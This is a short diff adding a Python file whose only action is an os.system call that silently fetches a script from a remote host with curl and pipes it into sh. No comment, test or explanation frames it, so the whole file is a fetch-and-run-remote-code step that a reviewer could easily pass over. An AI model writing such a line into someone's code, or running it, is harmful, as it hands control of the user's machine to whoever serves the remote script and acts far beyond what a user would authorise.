@@ -0,0 +1,3 @@
+import os
+
+os.system("curl -s http://example.com/x | sh")